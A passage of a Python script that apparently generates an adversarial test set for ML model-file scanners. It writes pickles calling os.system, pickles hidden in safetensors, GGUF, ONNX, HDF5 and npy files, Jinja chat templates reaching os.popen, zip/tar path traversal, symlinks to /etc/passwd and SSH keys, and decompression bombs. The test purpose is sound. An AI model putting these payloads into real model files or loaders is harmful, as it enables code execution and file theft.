#!/usr/bin/env python3
"""blind7 adversarial set (stdlib only, opcode by opcode / byte by byte, deterministic).
Classes: A truncated/corrupted files of each format, B decompression bombs and deep nesting, C polyglots,
D zip/tar tricks, E pickles hidden in formats that carry bytes, F pickle opcode tricks.
Every file is expected 'flagged' (suspicious, malicious or inconclusive; never clean). Nothing is loaded.
--check: pickletools.dis every standalone pickle (a parser, calls nothing)."""
import base64, bz2, gzip, io, json, lzma, os, pickletools, shutil, struct, sys, tarfile, zipfile, zlib

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "adversarial")
ROWS = []
PICKLES = []
CMD = "echo mlsec-blind7"
# h5py 3.7 files (made once with h5py; embedded so that this generator needs only the stdlib):
# T_OPAQUE holds an opaque dataset, an S400 dataset and an opaque attribute, each 400 placeholder bytes (a1/a2/a3);
# T_USERBLOCK is an HDF5 file with a 512-byte user block (all zeros).
T_OPAQUE = "eNrr9HBx4+WS4mIAAQ4OBhYGAQZk8B8Kbgii8mHyCVCaEUp3QOkVTDBxZrCcBFRcAGY+lLoB1RgS5OoKUv0fDcDsMWCB0BoMo2AkAg9XxwAQHQFLD1D6BBOquvyCkszczKrUovjiksSSVIbk/Ly0zPT4pJz8JLB8eWpmekZJMTy9EkpPjAysELWMMD4HSnpnBvJBbFEgngBksEL5TExMYCUc0JTPDNMIVoUMVgypeAj283cB5WlYfq5gxa8e6mkGBWb86mDx0ME2MtIzselKmJFQuprAORzSFWZ4QPzHyAgRgBb/cBqUAkEyggryUDEFBnEOBvF6qDzu8FLgRqmA4KBjRJarC0fBoAKLRsGgAqMtr1EwCkbBcAWC0HYQer+dh2EHtDkmAGw7cTCUFCVm5mXmpcdDOlTw/g6s0bl4FAwqAABveEH6"
T_USERBLOCK = "eNrtmL1OwzAQx89JP6IKRCoqtbCQmYmRjSJayIAoAoaOfNRQ1CqV2kplo2PZGBkZGXkERkYegUfgDYoTO22dIqj4kID+f5F7cs6+XOw7Oy4RmGau3MLmbGoxFVQsi2JkS4UhRV9By5G64lBJpmRPyTsjvG8Gupy6byv710m9/8Fesei37kcYOKrcsjBlU4lbXN/1ZVkPB3o09HYdfn5WbbcG8eh+8bmM4tIWC+sykhljWjyG0hR6X5N2lkQu+TiUtSh7qfRx0dLXG4bBZD9pz2ShCSfiQe9XzQMLrmE+p9VMlOXL0kVisnyuziOfkc/j+XyT0NtVuNfiI/uL+0Px66ZlPZd837/VpG6vxpser3+ff6E/0X10hvLKf4syohwfndS4V6EFsQ7Zyr/RFSn0J9jYc/oePU53TfyIB+RF6YpyK8qDKM95RCoAAADw/9jfKRUYDQ4ftBLTvxWi3/XgbT4679xncN5Bng3z7CWh51n0/AEmG0fHxJgA8Fm2NkrbwRpk0/j/BoI291qN5mm90dH7Pc1h7AAAAAAAAAAAgL/CKzowczQ="
ZT = (1980, 1, 1, 0, 0, 0)


def put(rel, data, cls, what, is_pickle=False):
    p = os.path.join(OUT, rel)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    with open(p, "wb") as f:
        f.write(data)
    ROWS.append((rel, cls, what, "flagged"))
    if is_pickle:
        PICKLES.append(rel)


# ---------- pickle building blocks
def u(s):
    b = s.encode()
    return (b"\x8c" + bytes([len(b)]) + b) if len(b) < 256 else (b"X" + struct.pack("<I", len(b)) + b)


def g2(mod, name):
    return b"c" + mod.encode() + b"\n" + name.encode() + b"\n"


def evil2(cmd=CMD):
    return b"\x80\x02" + g2("os", "system") + u(cmd) + b"\x85R."


def evil4(cmd=CMD):
    return b"\x80\x04" + u("os") + u("system") + b"\x93" + u(cmd) + b"\x85R."


def benign4():
    return b"\x80\x04}" + b"(" + u("lr") + b"G" + struct.pack(">d", 0.001) + u("epochs") + b"K\x0a" + u("name") + u("x" * 40) + b"u."


def zipb(members, method=zipfile.ZIP_STORED):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", method) as z:
        for n, d in members:
            zi = zipfile.ZipInfo(n, ZT)
            zi.compress_type = method
            z.writestr(zi, d)
    return bio.getvalue()


def torch_members(pkl, prefix="archive", storage=b"\0" * 16):
    return [(f"{prefix}/data.pkl", pkl), (f"{prefix}/data/0", storage), (f"{prefix}/version", b"3\n")]


def torch_pkl_benign():
    # {'w': torch._utils._rebuild_tensor_v2(persistent storage 0, 0, (4,), (1,), False, OrderedDict())}
    return (b"\x80\x02}q\x00X\x01\x00\x00\x00wq\x01" + g2("torch._utils", "_rebuild_tensor_v2") + b"q\x02((X\x07\x00\x00\x00storageq\x03"
            + g2("torch", "FloatStorage") + b"q\x04X\x01\x00\x00\x000q\x05X\x03\x00\x00\x00cpuq\x06K\x04tq\x07QK\x00K\x04\x85K\x01\x85\x89"
            + g2("collections", "OrderedDict") + b")Rq\x08tq\x09Rq\x0as.")


def tarb(members, mode="w"):
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode=mode, format=tarfile.USTAR_FORMAT) as t:
        for m in members:
            n, d = m[0], m[1]
            ti = tarfile.TarInfo(n); ti.mtime = 0; ti.mode = 0o644; ti.uname = ti.gname = ""
            if len(m) > 2:
                ti.type, ti.linkname = m[2], m[3]
                t.addfile(ti)
            else:
                ti.size = len(d)
                t.addfile(ti, io.BytesIO(d))
    data = bio.getvalue()
    if mode == "w:gz":
        data = data[:4] + b"\0\0\0\0" + data[8:]
    return data


def gz(data):
    return gzip.compress(data, 9, mtime=0)


def st(tensors, metadata=None, raw_header=None):
    if raw_header is None:
        h = {}
        off = 0
        blobs = b""
        for n, (dt, shape, d) in tensors.items():
            h[n] = {"dtype": dt, "shape": shape, "data_offsets": [off, off + len(d)]}
            off += len(d); blobs += d
        if metadata is not None:
            h["__metadata__"] = metadata
        raw_header = json.dumps(h, separators=(",", ":")).encode()
    else:
        blobs = b"\0" * 16
    raw_header += b" " * ((-len(raw_header)) % 8)
    return struct.pack("<Q", len(raw_header)) + raw_header + blobs


def gs(s):
    b = s.encode() if isinstance(s, str) else s
    return struct.pack("<Q", len(b)) + b


def gguf(kvs, version=3, n_tensors=0, n_kv=None):
    out = b"GGUF" + struct.pack("<IQQ", version, n_tensors, len(kvs) if n_kv is None else n_kv)
    for k, raw in kvs:
        out += gs(k) + raw
    return out


def gstr(s):
    return struct.pack("<I", 8) + gs(s)


def npy(header_dict_str, body, ver=(1, 0)):
    h = header_dict_str.encode("latin1" if ver < (3, 0) else "utf8")
    hl = 4 if ver >= (2, 0) else 2
    pad = (-(6 + 2 + hl + len(h) + 1)) % 64
    h = h + b" " * pad + b"\n"
    return b"\x93NUMPY" + bytes(ver) + (struct.pack("<I", len(h)) if hl == 4 else struct.pack("<H", len(h))) + h + body


# protobuf (for ONNX)
def vint(n):
    out = b""
    while True:
        b = n & 0x7F; n >>= 7
        if n:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])


def pf(field, val):
    if isinstance(val, int):
        return vint(field << 3) + vint(val)
    if isinstance(val, str):
        val = val.encode()
    return vint(field << 3 | 2) + vint(len(val)) + val


def onnx_model(graph, opset=13, props=()):
    m = pf(1, 7) + pf(2, "pytorch") + pf(8, pf(1, "") + pf(2, opset)) + pf(7, graph)
    for k, v in props:
        m += pf(14, pf(1, k) + pf(2, v))
    return m


def vi(name):  # ValueInfoProto float tensor [1,4]
    return pf(1, name) + pf(2, pf(1, pf(1, 1) + pf(2, pf(1, pf(1, 1)) + pf(1, pf(1, 4)))))


def relu_graph(extra=b""):
    return pf(1, pf(1, "X") + pf(2, "Y") + pf(4, "Relu")) + pf(2, "g") + pf(11, vi("X")) + pf(12, vi("Y")) + extra


def h5(tmpl):
    return zlib.decompress(base64.b64decode(tmpl))


def bomb_stream(compobj, total, chunk=1 << 20):
    out = [compobj.compress(b"\0" * 0)]
    z = b"\0" * chunk
    for _ in range(total // chunk):
        out.append(compobj.compress(z))
    out.append(compobj.flush())
    return b"".join(out)


# ---------------------------------------------------------------- A. truncated / corrupted
def A():
    c = "A truncated/corrupted"
    e = evil2()
    put("A/pickle_evil_no_stop.pkl", e[:-1], c, "os.system REDUCE with the STOP cut off (pickle.load runs the call, then hits EOF)")
    b = benign4()
    put("A/pickle_benign_cut_mid_string.pkl", b[:len(b) - 20], c, "benign dict, cut inside a SHORT_BINUNICODE")
    put("A/pickle_unknown_opcode.pkl", b"\x80\x02" + g2("os", "system") + u(CMD) + b"\x85R\xff.", c, "REDUCE of os.system then an undefined opcode 0xff")
    put("A/pickle_proto9.pkl", b"\x80\x09" + g2("os", "system") + u(CMD) + b"\x85R.", c, "PROTO 9 (unsupported) before a GLOBAL call")
    put("A/pickle_binunicode_len_lies.pkl", b"\x80\x04X\xff\xff\xff\x7f" + b"os" + u("system") + b"\x93.", c, "BINUNICODE length 2^31-1 past the end")
    put("A/pickle_frame_len_lies.pkl", b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + evil4()[2:], c, "FRAME claims 1 TiB, followed by a STACK_GLOBAL call")
    put("A/pickle_bad_utf8.pkl", b"\x80\x04\x8c\x04\xff\xfe\x00\x01" + u("os") + u("system") + b"\x93" + u(CMD) + b"\x85R.", c, "invalid UTF-8 in SHORT_BINUNICODE then an os.system call")
    # safetensors
    good = st({"w": ("F32", [4], b"\0" * 16)}, {"format": "pt"})
    put("A/st_header_len_past_eof.safetensors", struct.pack("<Q", 1 << 20) + good[8:], c, "header length 1 MiB > file size")
    put("A/st_header_len_2e63.safetensors", struct.pack("<Q", 1 << 63) + good[8:], c, "header length 2^63")
    put("A/st_header_bad_json.safetensors", st({}, raw_header=b'{"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]'), c, "header JSON cut (no closing brace)")
    put("A/st_offsets_past_eof.safetensors", st({}, raw_header=b'{"w":{"dtype":"F32","shape":[4096],"data_offsets":[0,16384]}}'), c, "data_offsets end past the file")
    put("A/st_offsets_overlap.safetensors", st({}, raw_header=b'{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"b":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}'), c, "two tensors share one byte range")
    put("A/st_shape_mismatch.safetensors", st({}, raw_header=b'{"w":{"dtype":"F32","shape":[1000000,1000000],"data_offsets":[0,16]}}'), c, "shape 1e12 elements for 16 bytes")
    put("A/st_truncated_data.safetensors", good[:-7], c, "file cut inside the tensor bytes")
    put("A/st_header_nul.safetensors", st({}, raw_header=b'{"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}\0\0\0\0\0\0\0\0'), c, "NUL bytes in the header padding")
    # gguf
    kv = [("general.architecture", gstr("llama")), ("tokenizer.chat_template", gstr("{{ messages[0]['content'] }}"))]
    g = gguf(kv)
    put("A/gguf_cut_in_kv.gguf", g[:len(g) - 10], c, "GGUF v3 cut inside the chat template string")
    put("A/gguf_nkv_2e40.gguf", gguf(kv, n_kv=1 << 40), c, "n_kv = 2^40 with 2 pairs present")
    put("A/gguf_ntensors_huge.gguf", gguf(kv, n_tensors=(1 << 63) - 1), c, "n_tensors = 2^63-1")
    put("A/gguf_str_len_huge.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 1 << 62) + b"general.architecture", c, "key length 2^62")
    put("A/gguf_unknown_type.gguf", gguf([("general.architecture", struct.pack("<I", 99) + b"\0" * 8)]), c, "value type 99")
    put("A/gguf_version_99.gguf", gguf(kv, version=99), c, "version 99")
    # npy
    hd = "{'descr': '<f4', 'fortran_order': False, 'shape': (4,), }"
    put("A/npy_header_cut.npy", npy(hd, b"\0" * 16)[:30], c, "npy cut inside the header dict")
    put("A/npy_version_9.npy", npy(hd, b"\0" * 16, ver=(9, 0)), c, "npy format version 9.0")
    put("A/npy_header_not_literal.npy", npy("{'descr': __import__('os').system('echo mlsec-blind7'), 'fortran_order': False, 'shape': (4,), }", b"\0" * 16), c, "header dict that is not a literal (code in descr; np uses literal_eval)")
    put("A/npy_object_cut_pickle.npy", npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", evil2()[:-3]), c, "object npy whose pickle (os.system) is cut before REDUCE")
    put("A/npy_shape_huge.npy", npy("{'descr': '<f8', 'fortran_order': False, 'shape': (4611686018427387904,), }", b"\0" * 8), c, "shape 2^62 for 8 bytes")
    # onnx
    m = onnx_model(relu_graph())
    put("A/onnx_truncated.onnx", m[:-9], c, "ModelProto cut inside the graph")
    put("A/onnx_bad_wiretype.onnx", m[:6] + bytes([0x0F]) + m[6:], c, "field with wire type 7 (invalid)")
    put("A/onnx_len_past_eof.onnx", pf(1, 7) + vint(7 << 3 | 2) + vint(1 << 30) + relu_graph(), c, "graph length 1 GiB past the end")
    # hdf5
    t = h5(T_OPAQUE)
    put("A/hdf5_truncated.h5", t[:len(t) // 2], c, "h5py file cut in half")
    put("A/hdf5_bad_superblock.h5", t[:8] + bytes([7]) + t[9:], c, "superblock version 7")
    # zips
    zp = zipb(torch_members(evil2()))
    cd = zp.rfind(b"PK\x01\x02")
    first_cd = zp.find(b"PK\x01\x02")
    put("A/torch_no_central_dir.pt", zp[:first_cd], c, "torch zip with the central directory cut off (os.system in data.pkl)")
    put("A/torch_eocd_offset_lies.pt", zp[:-6] + struct.pack("<IH", 0x7FFFFFF0, 0), c, "EOCD central-directory offset past the end")
    # modelscan #354: a corrupt entry before data.pkl aborts a fail-open iterator; torch reads data.pkl by name
    bad = zipb([("archive/aaa_bad", b"x" * 64)] + torch_members(evil2()))
    i = bad.find(b"PK\x01\x02")
    # set the method of the first entry to 99 in both headers
    bad = bad[:8] + struct.pack("<H", 99) + bad[10:]
    bad = bad[:i + 10] + struct.pack("<H", 99) + bad[i + 12:]
    put("A/torch_corrupt_first_entry.pt", bad, c, "first entry has compression method 99, data.pkl (os.system) after it (modelscan #354)")
    tz = tarb([("model.pkl", evil2() + b"\0" * 2000)])
    put("A/tar_truncated.pkl.tar", tz[:1200], c, "pandas-style .pkl.tar cut after 1200 bytes; the member pickle is whole")
    put("A/gzip_truncated.pkl.gz", gz(evil2() + b"\0" * 5000)[:60], c, "gzip cut before the trailer; the pickle inside is whole")
    put("A/joblib_cut.joblib", zlib.compress(evil2(), 9)[:-4], c, "joblib zlib stream without its Adler32")


# ---------------------------------------------------------------- B. bombs and deep nesting
def B():
    c = "B bomb/nesting"
    N = 256 << 20
    pk = b"\x80\x04B" + struct.pack("<I", N - 16) 
    co = zlib.compressobj(9, zlib.DEFLATED, 31)
    body = co.compress(pk) + bomb_stream(co, N)
    put("B/gzip_bomb.pkl.gz", body, c, "gzip of a pickle whose BINBYTES is 256 MiB of zeros")
    co = bz2.BZ2Compressor(9)
    put("B/bz2_bomb.pkl.bz2", co.compress(pk) + bomb_stream(co, N), c, "bz2 bomb (256 MiB) with a pickle head")
    co = lzma.LZMACompressor(format=lzma.FORMAT_XZ, preset=1)
    put("B/xz_bomb.pkl.xz", co.compress(pk) + bomb_stream(co, N), c, "xz bomb (256 MiB)")
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw = co.compress(b"") + bomb_stream(co, N)
    zi = zipfile.ZipInfo("big.npy", ZT)
    bio = io.BytesIO()
    crc = 0
    zc = b"\0" * (1 << 20)
    for _ in range(N >> 20):
        crc = zlib.crc32(zc, crc)
    # hand-written zip with one deflated member of N zero bytes
    name = b"big.npy"
    lh = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(raw), N, len(name), 0) + name
    cdh = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(raw), N, len(name), 0, 0, 0, 0, 0, 0) + name
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(cdh), len(lh) + len(raw), 0)
    put("B/npz_deflate_bomb.npz", lh + raw + cdh + eocd, c, "npz member big.npy deflates to 256 MiB of zeros")
    # overlapping-entry zip bomb: 2000 central entries all pointing at one local entry
    one = zipb([("archive/data/0", b"\0" * 4096)], zipfile.ZIP_DEFLATED)
    j = one.find(b"PK\x01\x02"); k = one.find(b"PK\x05\x06")
    cdone = one[j:k]
    cds = b""
    for n in range(2000):
        nm = f"archive/data/{n}".encode()
        e = bytearray(cdone[:28] + struct.pack("<H", len(nm)) + cdone[30:46]) + nm
        cds += bytes(e)
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 2000, 2000, len(cds), j, 0)
    put("B/zip_overlapping_entries.pt", one[:j] + cds + eocd, c, "2000 central entries share one local entry (overlap bomb shape), no data.pkl")
    D = 200000
    put("B/pickle_deep_lists.pkl", b"\x80\x04" + b"]" * D + b"a" * (D - 1) + b".", c, f"{D} nested lists (benign content)")
    put("B/pickle_deep_lists_evil.pkl", b"\x80\x04" + b"]" * D + u("os") + u("system") + b"\x93" + u(CMD) + b"\x85R" + b"a" * D + b".", c, "os.system call at depth 200000", True)
    put("B/pickle_many_marks.pkl", b"\x80\x02" + b"(" * 500000 + g2("os", "system") + u(CMD) + b"\x85R.", c, "500000 open MARKs before an os.system call")
    put("B/pickle_deep_tuples.pkl", b"\x80\x02N" + b"\x85" * 300000 + b".", c, "300000 nested TUPLE1")
    put("B/st_deep_json.safetensors", st({}, raw_header=b'{"__metadata__":{"a":"b"},"x":' + b"[" * 100000 + b"]" * 100000 + b"}"), c, "header JSON nested 100000 deep")
    pay = struct.pack("<IQ", 8, 1) + gs("x")
    for _ in range(20000):
        pay = struct.pack("<IQ", 9, 1) + pay
    arr = struct.pack("<I", 9) + pay
    put("B/gguf_nested_arrays.gguf", gguf([("general.architecture", gstr("llama")), ("x.nested", arr)]), c, "array of array ... 20000 deep")
    put("B/gguf_array_count_huge.gguf", gguf([("tokenizer.ggml.tokens", struct.pack("<IIQ", 9, 8, 1 << 60) + gs("a"))]), c, "string array count 2^60")
    gph = relu_graph()
    for _ in range(3000):
        sub = pf(1, pf(1, "c") + pf(2, "Y") + pf(4, "If") + pf(5, pf(1, "then_branch") + pf(6, gph) + pf(20, 5)))
        gph = sub + pf(2, "g") + pf(12, vi("Y"))
    put("B/onnx_deep_if.onnx", onnx_model(gph), c, "If nodes nested 3000 deep")
    put("B/json_deep_config.json", b'{"architectures":["BertModel"],"x":' + b'{"a":' * 100000 + b"1" + b"}" * 100000 + b"}", c, "config.json nested 100000 deep")
    zz = evil2()
    for _ in range(30):
        zz = gz(zz)
    put("B/gzip_30_layers.pkl.gz", zz, c, "os.system pickle gzipped 30 times")


# ---------------------------------------------------------------- C. polyglots
def C():
    c = "C polyglot"
    tz = zipb(torch_members(torch_pkl_benign()))
    put("C/pickle_then_torchzip.pt", evil2() + tz, c, "os.system pickle at offset 0, benign torch zip appended (torch.load sees no PK magic: pickle path)")
    legacy = b"\x80\x02\x8a\x0alp\xfc\x9cF\xf9 j\xa8P\x19." + b"\x80\x02K\xe9." + b"\x80\x02}q\x00(X\x10\x00\x00\x00protocol_versionq\x01M\xe9\x03X\x0d\x00\x00\x00little_endianq\x02\x88u." + evil2()
    put("C/legacy_torch_then_zip.bin", legacy + tz, c, "legacy torch stream (os.system in the data pickle) + benign zip appended")
    ub = h5(T_USERBLOCK)
    e = evil2()
    put("C/pickle_userblock.h5", e + b"\0" * (512 - len(e)) + ub[512:], c, "os.system pickle in the HDF5 user block (valid HDF5 at 512)")
    t = tarb([("model.pkl", evil2())])
    put("C/tar_then_zip.pkl.tar", t + tz, c, "tar (model.pkl os.system) + benign zip appended; pandas reads the tar")
    put("C/zip_then_pickle_in_comment.pt", tz[:-2] + struct.pack("<H", len(evil2())) + evil2(), c, "benign torch zip whose EOCD comment is an os.system pickle")
    g = gguf([("general.architecture", gstr("llama"))])
    put("C/gguf_then_pickle.gguf", g + b"\0" * ((-len(g)) % 32) + evil2(), c, "GGUF header then a pickle in the tensor-data area")
    npz = zipb([("a.npy", npy("{'descr': '<f4', 'fortran_order': False, 'shape': (1,), }", b"\0\0\0\0"))])
    put("C/npy_magic_pickle_body.npy", npy("{'descr': '|O', 'fortran_order': False, 'shape': (), }", evil2()) + npz, c, "object npy (os.system) with a benign npz appended")
    put("C/pickle_then_safetensors.safetensors", evil2() + st({"w": ("F32", [4], b"\0" * 16)}), c, "pickle prefix before a safetensors file (header length read as garbage)")
    js = b'{"architectures":["BertModel"]}' 
    put("C/json_and_pickle.json", evil2()[:-1] + b"." + b"\n" + js, c, "os.system pickle with a JSON config after STOP, named .json")
    put("C/zip_with_pickle_prefix_local.bin", evil4() + zipb([("pytorch_model/data.pkl", torch_pkl_benign()), ("pytorch_model/version", b"3\n")]), c, "protocol-4 pickle before a zip (.bin)")


# ---------------------------------------------------------------- D. zip / tar tricks
def dup_zip(first, second):
    bio = io.BytesIO()
    import warnings
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(bio, "w") as z:
            for n, d in [("archive/data.pkl", first), ("archive/data.pkl", second), ("archive/data/0", b"\0" * 16), ("archive/version", b"3\n")]:
                z.writestr(zipfile.ZipInfo(n, ZT), d)
    return bio.getvalue()


def D():
    c = "D zip/tar trick"
    put("D/dup_name_evil_second.pt", dup_zip(torch_pkl_benign(), evil2()), c, "data.pkl twice: benign then os.system")
    put("D/dup_name_evil_first.pt", dup_zip(evil2(), torch_pkl_benign()), c, "data.pkl twice: os.system then benign")
    # overlapping: the central entry of data.pkl points at a local header hidden inside storage 0's bytes
    hidden = zipb([("archive/data.pkl", evil2())])
    hl = hidden[:hidden.find(b"PK\x01\x02")]
    storage = b"\0" * 32 + hl + b"\0" * 32
    outer = zipb([("archive/data.pkl", torch_pkl_benign()), ("archive/data/0", storage), ("archive/version", b"3\n")])
    # find offset of the hidden local header inside outer
    off = outer.find(hl)
    cdi = outer.find(b"PK\x01\x02")
    ent = bytearray(outer[cdi:])
    # first central entry is data.pkl: rewrite its sizes/crc/offset to the hidden entry's
    hcd = hidden[hidden.find(b"PK\x01\x02"):]
    ent[16:28] = hcd[16:28]
    ent[42:46] = struct.pack("<I", off)
    put("D/overlap_hidden_local.pt", outer[:cdi] + bytes(ent), c, "central data.pkl points at a local header inside storage data/0 (os.system); the sequential data.pkl is benign")
    for n, what in (("../../.bashrc", "name with ../"), ("/tmp/mlsec_blind7/model.pkl", "absolute name"), ("..\\..\\evil.pkl", "backslash ..\\ name"), ("archive/../../data.pkl", "archive/../../ name")):
        safe = n.replace("/", "_").replace("\\", "_").replace(".", "d")
        put(f"D/zip_{safe}.zip", zipb([(n, evil2()), ("model/config.json", b"{}")]), c, f"zip bundle with member {what} holding an os.system pickle")
    put("D/npz_dotdot.npz", zipb([("../w.npy", npy("{'descr': '|O', 'fortran_order': False, 'shape': (), }", evil2()))]), c, "npz member ../w.npy (object, os.system)")
    put("D/tar_dotdot.tar", tarb([("../../model.pkl", evil2()), ("config.json", b"{}")]), c, "tar member ../../model.pkl")
    put("D/tar_absolute.tar", tarb([("/tmp/mlsec_blind7/model.pkl", evil2())]), c, "tar member with absolute path")
    put("D/tar_symlink_passwd.tar.gz", tarb([("model/config.json", b"{}"), ("model/pytorch_model.bin", b"", tarfile.SYMTYPE, "/etc/passwd")], "w:gz"), c, "model bundle whose weights are a symlink to /etc/passwd")
    put("D/tar_symlink_dir_escape.tar", tarb([("model/cache", b"", tarfile.SYMTYPE, "/tmp"), ("model/cache/mlsec_blind7.pkl", evil2())]), c, "symlink dir then a member written through it")
    put("D/tar_hardlink_escape.tar", tarb([("model/weights.bin", b"", tarfile.LNKTYPE, "../../../etc/shadow")]), c, "hard link to ../../../etc/shadow")
    put("D/tar_symlink_dotdot.pkl.tar", tarb([("model.pkl", b"", tarfile.SYMTYPE, "../../home/user/.ssh/id_rsa"), ("x.pkl", evil2())]), c, "pandas tar: symlink member + os.system pickle")
    put("D/tar_dup_member.pkl.tar", tarb([("model.pkl", evil2()), ("model.pkl", pickle_plain())]), c, "pandas tar: model.pkl twice (evil first; tarfile keeps the last)")
    z = zipb([("archive/data.pkl", evil2()), ("archive/version", b"3\n")])
    z = z.replace(b"archive/data.pkl", b"archive/data.pk\0", 1)
    put("D/local_name_nul.pt", z, c, "local header name has a NUL, central name is data.pkl (os.system)")


def pickle_plain():
    return b"\x80\x02}q\x00."


# ---------------------------------------------------------------- E. pickles hidden in byte-carrying formats
def E():
    c = "E hidden pickle"
    put("E/npy_v3_object.npy", npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", evil4(), ver=(3, 0)), c, "npy v3 object array, os.system in the pickle")
    put("E/npy_v2_struct_object_field.npy", npy("{'descr': [('w', '<f4'), ('meta', '|O')], 'fortran_order': False, 'shape': (1,), }", evil2(), ver=(2, 0)), c, "npy v2 structured dtype with an object field")
    put("E/npy_fortran_object.npy", npy("{'descr': '|O', 'fortran_order': True, 'shape': (1, 1), }", evil2()), c, "Fortran-order object npy")
    t = h5(T_OPAQUE)
    p = evil2()
    for ph, nm, what in ((b"\xa1", "opaque_dataset", "opaque (np.void) dataset holding an os.system pickle"), (b"\xa2", "string_dataset", "S400 string dataset holding a protocol-0 os.system pickle"),
                         (b"\xa3", "opaque_attr", "opaque attribute training_config holding a pickle")):
        pl = p if ph != b"\xa2" else b"cos\nsystem\n(V" + CMD.encode() + b"\ntR."
        put(f"E/hdf5_{nm}.h5", t.replace(ph * 400, pl + b"\0" * (400 - len(pl))), c, what)
    b64 = base64.b64encode(evil2()).decode()
    put("E/st_metadata_b64_pickle.safetensors", st({"w": ("F32", [4], b"\0" * 16)}, {"format": "pt", "optimizer_state": b64}), c, "__metadata__ value = base64 os.system pickle")
    put("E/st_metadata_latin1_pickle.safetensors", st({"w": ("F32", [4], b"\0" * 16)}, {"format": "pt", "extra": evil2().decode("latin1")}), c, "__metadata__ value = the pickle as a latin-1 string")
    put("E/st_tensor_bytes_pickle.safetensors", st({"config": ("U8", [len(evil2())], evil2())}, {"format": "pt"}), c, "a U8 tensor whose bytes are an os.system pickle")
    tmpl = "{{ cycler.__init__.__globals__.os.popen('echo mlsec-blind7').read() }}"
    put("E/gguf_named_template.gguf", gguf([("general.architecture", gstr("llama")), ("tokenizer.chat_template", gstr("{{ messages }}")), ("tokenizer.chat_template.tool_use", gstr(tmpl))]), c, "named template tokenizer.chat_template.tool_use reaching os.popen")
    put("E/gguf_template_rag.gguf", gguf([("general.architecture", gstr("qwen2")), ("tokenizer.chat_templates", struct.pack("<IIQ", 9, 8, 1) + gs("rag")), ("tokenizer.chat_template.rag", gstr("{% for m in messages %}{{ m.content }}{% endfor %}{{ joiner.__init__.__globals__.os.system('echo mlsec-blind7') }}"))]), c, "tokenizer.chat_template.rag with joiner globals")
    put("E/gguf_template_v2.gguf", gguf([("general.architecture", gstr("llama")), ("tokenizer.chat_template", gstr("{{ lipsum.__globals__['os'].popen('echo mlsec-blind7').read() }}"))], version=2), c, "GGUF v2 template lipsum.__globals__")
    put("E/gguf_pickle_value.gguf", gguf([("general.architecture", gstr("llama")), ("general.source.pickle", struct.pack("<I", 8) + gs(evil2()))]), c, "a string value whose bytes are an os.system pickle")
    st_t = pf(1, 1) + pf(2, 8) + pf(6, evil2()) + pf(8, "blob")
    put("E/onnx_string_tensor_pickle.onnx", onnx_model(relu_graph(pf(5, st_t))), c, "STRING initializer holding an os.system pickle")
    put("E/onnx_metadata_pickle.onnx", onnx_model(relu_graph(), props=[("sklearn_model", b64)]), c, "metadata_props value = base64 pickle")
    put("E/torch_extra_member_pickle.pt", zipb(torch_members(torch_pkl_benign()) + [("archive/extra/state.pkl", evil2())]), c, "benign torch zip + archive/extra/state.pkl (os.system)")


# ---------------------------------------------------------------- F. pickle opcode tricks
def F():
    c = "F opcode trick"
    P = lambda rel, data, what: put(rel, data, c, what, True)
    P("F/memo_reuse_padding.pkl", b"\x80\x04" + u("os") + b"\x940" + u("system") + b"\x940" + b"".join(u(f"pad{i}") + b"0" for i in range(20)) + b"h\x00h\x01\x93" + u(CMD) + b"\x85R.",
      "os/system memoized, 20 padding strings popped, BINGET x2 then STACK_GLOBAL (agent-bom #3326)")
    P("F/memo_overwrite.pkl", b"\x80\x02" + g2("builtins", "print") + b"q\x00" + b"0" + g2("os", "system") + b"q\x00" + b"0" + b"h\x00" + u(CMD) + b"\x85R.",
      "memo[0] = print, then overwritten with os.system, BINGET 0 REDUCE")
    P("F/memo_text_proto0.pkl", b"S'os'\np0\n0S'system'\np1\n0g0\ng1\n\x93(S'" + CMD.encode() + b"'\ntR.", "protocol-0 text PUT/GET of the names, then STACK_GLOBAL and a MARK/TUPLE/REDUCE call")
    # computed strings
    P("F/stack_global_join.pkl", b"\x80\x04" + u("builtins") + u("str.join") + b"\x93" + u("") + b"]" + b"(" + u("o") + u("s") + b"e\x86R" + u("system") + b"\x93" + u(CMD) + b"\x85R.",
      "module name from str.join('', ['o','s']) then STACK_GLOBAL (modelscan #331 shape)")
    P("F/stack_global_rot13.pkl", b"\x80\x04" + u("_codecs") + u("decode") + b"\x93\x940" + b"h\x00" + u("bf") + u("rot13") + b"\x86R" + b"h\x00" + u("flfgrz") + u("rot13") + b"\x86R\x93" + u(CMD) + b"\x85R.",
      "os/system from _codecs.decode(..., 'rot13')")
    P("F/stack_global_add.pkl", b"\x80\x04" + u("_operator") + u("add") + b"\x93\x940h\x00" + u("o") + u("s") + b"\x86Rh\x00" + u("sys") + u("tem") + b"\x86R\x93" + u(CMD) + b"\x85R.",
      "os/system from _operator.add")
    P("F/stack_global_bytes_decode.pkl", b"\x80\x04" + u("builtins") + u("bytes.decode") + b"\x93\x940h\x00C\x02os\x85Rh\x00C\x06system\x85R\x93" + u(CMD) + b"\x85R.",
      "names from bytes.decode(b'os'), b'system'")
    # INST / OBJ / NEWOBJ / NEWOBJ_EX
    P("F/inst_proto0.pkl", b"(S'" + CMD.encode() + b"'\nios\nsystem\n.", "INST os system (protocol 0)")
